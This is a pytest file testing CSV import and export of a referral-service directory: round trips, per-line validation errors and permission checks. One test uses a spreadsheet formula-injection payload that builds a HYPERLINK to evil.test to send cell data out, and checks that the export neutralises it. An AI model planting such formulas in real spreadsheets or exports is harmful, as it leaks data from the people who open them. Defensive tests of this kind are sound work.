"""CSV import and export of the directory, on SQLite and PostgreSQL: a round trip gives the same
directory; a broken file reports every bad row by line and column and imports nothing."""

import csv
import io
import os
import subprocess
import sys

import pytest
from sqlalchemy import func, select

from hotline_common.errors import InvalidInput, PermissionDenied
from hotline_devstack.testing import migrated_database, principal
from referrals.database import MIGRATIONS
from referrals.directory import csvio
from referrals.directory.demo import ORGANISATIONS, load_demo_directory, service_id
from referrals.directory.models import DirectoryChange, DirectoryService, Organisation

ADMIN = principal("admin", subject="admin-1")


@pytest.fixture
async def db(database_url):
    database = await migrated_database(MIGRATIONS, database_url)
    async with database.transaction() as session:
        assert await load_demo_directory(session)
    yield database
    await database.dispose()


async def export(db) -> str:
    async with db.reader() as session:
        return await csvio.export_directory(session, ADMIN)


async def import_text(db, text: str) -> csvio.ImportReport:
    async with db.transaction() as session:
        return await csvio.import_directory(session, ADMIN, text)


async def counts(db) -> tuple[int, int, int]:
    async with db.reader() as session:
        return tuple(
            [
                await session.scalar(select(func.count()).select_from(table))
                for table in (Organisation, DirectoryService, DirectoryChange)
            ]
        )


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def to_csv(rows: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=csvio.COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


async def test_export_then_import_gives_the_same_directory(db, tmp_path):
    async with db.transaction() as session:  # an organisation without services, and a deactivated service
        from referrals.directory import service

        await service.create_organisation(session, ADMIN, {"name": "Boş Təşkilat", "kind": "private_practice"})
        await service.set_service_active(session, ADMIN, service_id(7), False)
    exported = await export(db)
    assert len(rows_of(exported)) == 35, "34 services and one organisation without services"

    fresh = await migrated_database(MIGRATIONS, f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}")
    try:
        report = await import_text(fresh, exported)
        assert (report.organisations_created, report.services_created) == (len(ORGANISATIONS) + 1, 34)
        assert await export(fresh) == exported
    finally:
        await fresh.dispose()

    changes_before = (await counts(db))[2]
    again = await import_text(db, exported)
    assert (again.organisations_updated, again.services_updated, again.services_created) == (0, 0, 0)
    assert (await counts(db))[2] == changes_before, "an import that changes nothing leaves no history"


FORMULA_NAME = '=HYPERLINK("http://evil.test/?d="&A2,"Open")'


async def test_export_writes_no_cell_a_spreadsheet_evaluates_and_reads_back_the_same(db, tmp_path):
    async with db.transaction() as session:
        from referrals.directory import service

        await service.create_organisation(
            session, ADMIN, {"name": FORMULA_NAME, "kind": "ngo", "phone": "+994 12 555 00 00"}
        )
    exported = await export(db)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert FORMULA_NAME not in cells, "the directory export wrote a formula verbatim"
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA_NAME in cells

    fresh = await migrated_database(MIGRATIONS, f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}")
    try:
        await import_text(fresh, exported)
        async with fresh.reader() as session:
            phone = await session.scalar(select(Organisation.phone).where(Organisation.name == FORMULA_NAME))
        assert phone == "+994 12 555 00 00", "the apostrophe is the export's, not part of the value"
        assert await export(fresh) == exported
    finally:
        await fresh.dispose()


async def test_import_updates_and_creates_with_history(db):
    rows = rows_of(await export(db))
    [shelter] = [r for r in rows if r["service_id"] == service_id(4)]
    shelter["free_places"] = "1"
    new = dict(
        shelter,
        service_id="",
        service_name="Yeni yaşayış evi",
        region="Shaki",
        city="Şəki",
        latitude="",
        longitude="",
        opening_hours="Mon-Sun 00:00-24:00",
    )
    brand_new_org = dict(
        shelter,
        organisation_id="",
        organisation_name="Yeni Birlik",
        organisation_kind="ngo",
        service_id="",
        service_name="Hüquqi məsləhət",
        service_type="legal_aid",
        capacity="",
        free_places="",
    )
    report = await import_text(db, to_csv([shelter, new, brand_new_org]))
    assert (report.services_updated, report.services_created, report.organisations_created) == (1, 2, 1)
    async with db.reader() as session:
        assert (await session.get(DirectoryService, service_id(4))).free_places == 1
        created = await session.scalar(select(DirectoryService).where(DirectoryService.name == "Yeni yaşayış evi"))
        assert created.opening_hours == "24/7"
        actions = (await session.scalars(select(DirectoryChange.action))).all()
    assert set(actions) == {"imported"} and len(actions) == 4


async def test_broken_file_reports_every_bad_row_and_imports_nothing(db):
    good = rows_of(await export(db))
    before_counts, before_export = await counts(db), await export(db)
    bad = [dict(row) for row in good[:6]]
    bad[0]["service_name"] = "Changed, but the file is broken"  # a good change that must not land
    bad[1]["service_type"] = "astrology"  # line 3
    bad[2]["opening_hours"] = "mon-fri 9 to 6"  # line 4
    bad[3]["latitude"] = "north"  # line 5
    bad[3]["languages"] = "az xx"
    bad[4]["organisation_kind"] = "club"  # line 6
    bad[5]["service_id"] = bad[1]["service_id"]  # line 7: the same service twice
    text = to_csv(bad) + "only,three,fields\n"  # line 8
    with pytest.raises(InvalidInput) as raised:
        await import_text(db, text)
    problems = {(p.field, p.reason) for p in raised.value.problems}
    fields = [p.field for p in raised.value.problems]
    assert {
        "line 3.service_type",
        "line 4.opening_hours",
        "line 5.latitude",
        "line 5.languages",
        "line 6.organisation_kind",
        "line 7.service_id",
        "line 8.row",
    } <= set(fields), fields
    assert not any(f.startswith("line 2.") for f in fields), "line 2 is a good row"
    assert ("line 8.row", "3 fields, the header has 24") in problems
    assert ("line 7.service_id", "the same service as line 3") in problems
    assert await counts(db) == before_counts and await export(db) == before_export


async def test_header_and_permission_problems(db):
    with pytest.raises(InvalidInput) as raised:
        await import_text(db, "organisation_id,colour\n1,red\n")
    fields = {p.field for p in raised.value.problems}
    assert "line 1.colour" in fields and "line 1.service_type" in fields
    with pytest.raises(InvalidInput):
        await import_text(db, "")
    with pytest.raises(InvalidInput) as not_utf8:
        csvio.decode("ş".encode("cp1254"), 1024)
    assert not_utf8.value.problems[0].field == "file"
    for who in (principal("operator"), principal("partner", organisation_id=ORGANISATIONS[1][0])):
        with pytest.raises(PermissionDenied):
            async with db.reader() as session:
                await csvio.export_directory(session, who)
        with pytest.raises(PermissionDenied):
            async with db.transaction() as session:
                await csvio.import_directory(session, who, await export(db))


def test_command_line_export_and_import(tmp_path):
    def run(database: str, *args: str):
        env = dict(os.environ, DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path / database}")
        return subprocess.run(
            [sys.executable, "-m", "referrals", *args], env=env, capture_output=True, text=True, timeout=120
        )

    good = tmp_path / "directory.csv"
    good.write_text(
        to_csv(
            [
                {
                    **dict.fromkeys(csvio.COLUMNS, ""),
                    "organisation_name": "Birlik",
                    "organisation_kind": "ngo",
                    "service_name": "Psixoloq",
                    "service_type": "psychologist",
                    "region": "Baku",
                    "city": "Bakı",
                    "languages": "az ru",
                    "opening_hours": "mon-fri 09:00-18:00",
                    "eligibility": "women",
                }
            ]
        ),
        encoding="utf-8",
    )
    imported = run("a.db", "import-directory", str(good))
    assert imported.returncode == 0, imported.stderr
    assert "1 service(s) created" in imported.stdout
    exported = run("a.db", "export-directory")
    assert exported.returncode == 0 and "Psixoloq" in exported.stdout
    (tmp_path / "round.csv").write_text(exported.stdout, encoding="utf-8")
    assert run("b.db", "import-directory", str(tmp_path / "round.csv")).returncode == 0
    assert run("b.db", "export-directory").stdout == exported.stdout

    broken = tmp_path / "broken.csv"
    broken.write_text(exported.stdout.replace("psychologist", "astrologer").replace("Bakı", ""), encoding="utf-8")
    failed = run("b.db", "import-directory", str(broken))
    assert failed.returncode == 1
    assert "line 2, service_type:" in failed.stderr and "line 2, city:" in failed.stderr
    assert run("b.db", "export-directory").stdout == exported.stdout, "nothing imported"
